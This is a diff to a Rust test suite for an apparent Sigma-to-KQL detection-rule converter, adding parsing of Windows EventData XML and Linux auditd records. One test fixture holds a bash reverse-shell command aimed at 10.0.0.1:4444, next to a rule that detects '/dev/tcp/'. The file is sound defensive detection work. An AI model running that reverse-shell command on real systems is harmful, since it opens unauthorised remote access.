@@ -89,11 +89,15 @@ fn every_builtin_target_column_exists_in_schema_json() {
             missing.push(format!("{}: table {table} (for {field}) not in schema.json", target.name()));
             continue;
         };
-        let ok = match col.split_once('.') {
-            // A path is into a dynamic column, or into a string column that holds JSON text.
+        let ok = match col.split_once('.').or_else(|| col.split_once(':')) {
+            // A path is into a dynamic column, or into a string column that holds JSON text,
+            // an event's XML, or an audit record's key=value text.
             Some((base, _)) => match cols.get(base).and_then(|t| t.as_str()) {
                 Some("dynamic") => true,
-                Some("string") => crate::kusto::schema::column_type(table, &col) == ColumnType::JsonText,
+                Some("string") => matches!(
+                    crate::kusto::schema::column_type(table, &col),
+                    ColumnType::JsonText | ColumnType::EventXml | ColumnType::AuditField
+                ),
                 _ => false,
             },
             None => cols.contains_key(&col),
@@ -434,14 +438,20 @@ fn unmapped_field_is_an_error_naming_field_and_table() {
 fn azure_monitor_security_and_4688() {
     let r = rule_with(
         "  product: windows\n  service: security",
-        "  sel:\n    EventID: 4624\n    LogonType: 10\n    TaskName: x\n  condition: sel",
+        "  sel:\n    EventID: 4624\n    LogonType: 10\n    TaskName: x\n    SubjectUserNameX: y\n  condition: sel",
     );
     let m = map("azure_monitor", &r);
     assert_eq!(m.table.as_deref(), Some("SecurityEvent"));
     assert!(has_leaf(&m, "EventID", "4624"));
     let lt = leaves(&m).into_iter().find(|l| l.item.field.as_deref() == Some("LogonType"));
     assert_eq!(lt.map(|l| l.column_type), Some(ColumnType::Int));
-    assert!(m.notes.iter().any(|n| n.is_error() && n.message.contains("TaskName") && n.message.contains("EventData")));
+    // A Security value without a column is read from EventData's XML; a name no Security event writes is an error.
+    let task = leaves(&m).into_iter().find(|l| l.item.field.as_deref() == Some("EventData.TaskName"));
+    assert_eq!(task.map(|l| l.column_type), Some(ColumnType::EventXml));
+    assert!(m
+        .notes
+        .iter()
+        .any(|n| n.is_error() && n.message.contains("SubjectUserNameX") && n.message.contains("EventData")));
     let r = rule_with(
         "  category: process_creation\n  product: windows",
         "  sel:\n    Image|endswith: '\\whoami.exe'\n    IntegrityLevel: High\n    User|contains: 'AUTHORI'\n  condition: sel",
@@ -792,6 +802,42 @@ fn map_event_uses_the_same_value_mappings() {
 
 /// Evaluates a mapped expression over a mapped event (the subset of tests the
 /// pipeline produces), standing in for the KQL evaluator.
+/// A value the row keeps inside a text column, read as the query's `extract`
+/// reads it: `<Data Name="X">` of an XML text, `X=` of an audit record.
+fn value_in_text(column_type: ColumnType, field: &str, ev: &Event) -> Option<Value> {
+    let (base, name, open) = match column_type {
+        ColumnType::EventXml => {
+            let (base, name) = field.split_once('.')?;
+            (base, name, format!("<Data Name=\"{name}\">"))
+        }
+        ColumnType::AuditField => {
+            let (base, name) = field.split_once(':')?;
+            (base, name, format!("{name}="))
+        }
+        _ => return None,
+    };
+    let text = ev.get(base)?.as_str()?.to_string();
+    let mut from = 0;
+    while let Some(at) = text.get(from..)?.find(&open) {
+        let start = from + at;
+        let after = text.get(start + open.len()..)?;
+        let boundary = start == 0 || text.get(..start).is_some_and(|b| b.ends_with([' ', '\'', '\u{1d}', '>']));
+        if column_type == ColumnType::EventXml {
+            return Some(Value::String(after.split('<').next().unwrap_or("").to_string()));
+        }
+        if boundary && !name.is_empty() {
+            let raw = if let Some(q) = after.strip_prefix('"') {
+                format!("\"{}\"", q.split('"').next().unwrap_or(""))
+            } else {
+                after.split([' ', '\'', '\u{1d}']).next().unwrap_or("").to_string()
+            };
+            return Some(Value::String(raw));
+        }
+        from = start + open.len();
+    }
+    None
+}
+
 fn eval(e: &Expr<MappedItem>, ev: &Event) -> bool {
     match e {
         Expr::And(xs) => xs.iter().all(|x| eval(x, ev)),
@@ -799,7 +845,9 @@ fn eval(e: &Expr<MappedItem>, ev: &Event) -> bool {
         Expr::Not(x) => !eval(x, ev),
         Expr::Const(b) => *b,
         Expr::Leaf(m) => {
+            let in_text = m.item.field.as_deref().and_then(|f| value_in_text(m.column_type, f, ev));
             let value = m.item.field.as_deref().and_then(|f| ev.get(f));
+            let value = in_text.as_ref().or(value);
             let text = value.and_then(|v| match v {
                 Value::String(s) => Some(s.clone()),
                 Value::Number(n) => Some(n.to_string()),
@@ -1501,11 +1549,23 @@ fn kubernetes_proxy_webserver_and_linux_tables() {
         cloud("azure_monitor", "{product: linux}", "  keywords:\n    - 'Accepted password'\n  condition: keywords\n");
     no_errors(&m);
     assert_eq!(m.table.as_deref(), Some("Syslog"));
-    // auditd's records are not mapped onto Syslog's message text, and the error says why, on
-    // sentinel_asim too (it falls back to azure_monitor's tables).
+    // auditd's records: the values after `name=` in Syslog's message text, on
+    // sentinel_asim too (it falls back to azure_monitor's tables); a field
+    // auditd does not write is an error.
     for target in ["azure_monitor", "sentinel_asim"] {
-        let m = cloud(target, "{product: linux, service: auditd}", "  sel:\n    type: EXECVE\n  condition: sel\n");
-        assert!(m.notes.iter().any(|n| n.code == "no-table" && n.message.contains("audisp")), "{:#?}", m.notes);
+        let m = cloud(
+            target,
+            "{product: linux, service: auditd}",
+            "  sel:\n    type: EXECVE\n    a0: curl\n  condition: sel\n",
+        );
+        no_errors(&m);
+        assert!(
+            m.table.as_deref() == Some("Syslog") && has_leaf(&m, "SyslogMessage:a0", "\"curl\""),
+            "{:#?}",
+            leaves(&m)
+        );
+        let m = cloud(target, "{product: linux, service: auditd}", "  sel:\n    Image: /bin/sh\n  condition: sel\n");
+        assert!(m.notes.iter().any(|n| n.is_error() && n.message.contains("Image")), "{:#?}", m.notes);
     }
     let m =
         cloud("azure_monitor", "{product: azure, service: pim}", "  sel:\n    riskEventType: x\n  condition: sel\n");
@@ -1583,4 +1643,55 @@ fn cloud_records_map_onto_their_rows() {
     let msg = row["SyslogMessage"].as_str().unwrap_or_default();
     assert!(msg.contains("<Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID>"), "{msg}");
     assert!(msg.contains("<Data Name=\"CommandLine\">sh -c 'a &amp;&amp; b'</Data>"), "{msg}");
+}
+
+/// An event mapped onto the row of a table that keeps values in its text
+/// (SecurityEvent's EventData XML, auditd's record in SyslogMessage) is
+/// found by the rule's query, and an event with another value is not.
+#[test]
+fn events_mapped_into_record_text_are_found_by_the_query() {
+    let p = builtin("azure_monitor").unwrap_or_default();
+    let cases = [
+        (
+            "  product: windows\n  service: security",
+            "  sel:\n    EventID: 4698\n    TaskContent|contains: 'cmd.exe</Command>'\n  condition: sel",
+            r#"{"EventID": 4698, "TaskName": "\\x", "TaskContent": "<Task><Command>cmd.exe</Command></Task>"}"#,
+            r#"{"EventID": 4698, "TaskName": "\\x", "TaskContent": "<Task><Command>calc.exe</Command></Task>"}"#,
+        ),
+        (
+            "  product: linux\n  service: auditd",
+            "  sel:\n    type: EXECVE\n    a0: bash\n    a1|contains: '/dev/tcp/'\n  condition: sel",
+            r#"{"type": "EXECVE", "a0": "bash", "a1": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}"#,
+            r#"{"type": "EXECVE", "a0": "bash", "a1": "bash -i /tmp/x"}"#,
+        ),
+        (
+            "  product: rpc_firewall\n  category: application",
+            "  sel:\n    EventLog: RPCFW\n    EventID: 3\n    InterfaceUuid: 367abb81-9844-35f1-ad32-98f038001003\n    OpNum: 12\n  condition: sel",
+            r#"{"EventLog": "RPCFW", "EventID": 3, "InterfaceUuid": "367abb81-9844-35f1-ad32-98f038001003", "OpNum": "12"}"#,
+            r#"{"EventLog": "RPCFW", "EventID": 3, "InterfaceUuid": "367abb81-9844-35f1-ad32-98f038001003", "OpNum": "13"}"#,
+        ),
+    ];
+    for (logsource, detection, hit, miss) in cases {
+        let r = rule_with(logsource, detection);
+        let conv = crate::kql::convert(&r, &p, &Placeholders::new());
+        let q = conv.queries.first().cloned().unwrap_or_default();
+        let rows: Vec<Value> = [hit, miss].iter().map(|e| map_event(&p, &r, &ev(e)).0).collect();
+        let got = crate::kusto::evaluate_matches(&q, &rows).matched(2);
+        assert_eq!(got, vec![true, false], "{q}\n{rows:#?}");
+    }
+    // The record's spelling: an argument with a space in hex, the others quoted.
+    let r = rule_with("  product: linux\n  service: auditd", "  sel:\n    type: EXECVE\n  condition: sel");
+    let (row, _) = map_event(&p, &r, &ev(r#"{"type": "EXECVE", "a0": "ls", "a1": "a b"}"#));
+    let msg = row["SyslogMessage"].as_str().unwrap_or_default();
+    assert!(msg.starts_with("type=EXECVE msg=audit(") && msg.contains(" a0=\"ls\" a1=612062"), "{msg}");
+    // SecurityEvent: a value without a column is a <Data Name> of EventData, escaped.
+    let r = rule_with("  product: windows\n  service: security", "  sel:\n    EventID: 4769\n  condition: sel");
+    let (row, _) = map_event(&p, &r, &ev(r#"{"EventID": 4769, "TicketOptions": "0x40810000", "ServiceName": "a&b"}"#));
+    let data = row["EventData"].as_str().unwrap_or_default();
+    assert!(data.contains("<Data Name=\"TicketOptions\">0x40810000</Data>"), "{data}");
+    assert_eq!(row["ServiceName"], "a&b");
+    // An event's own EventData object with a huge "position" is not expanded into values.
+    let r = rule_with("  product: rpc_firewall\n  category: application", "  sel:\n    EventID: 3\n  condition: sel");
+    let (row, _) = map_event(&p, &r, &ev(r#"{"EventID": 3, "EventData": {"18446744073709551615": "x"}}"#));
+    assert!(row["EventData"].as_str().unwrap_or_default().len() < 100, "{row:?}");
 }
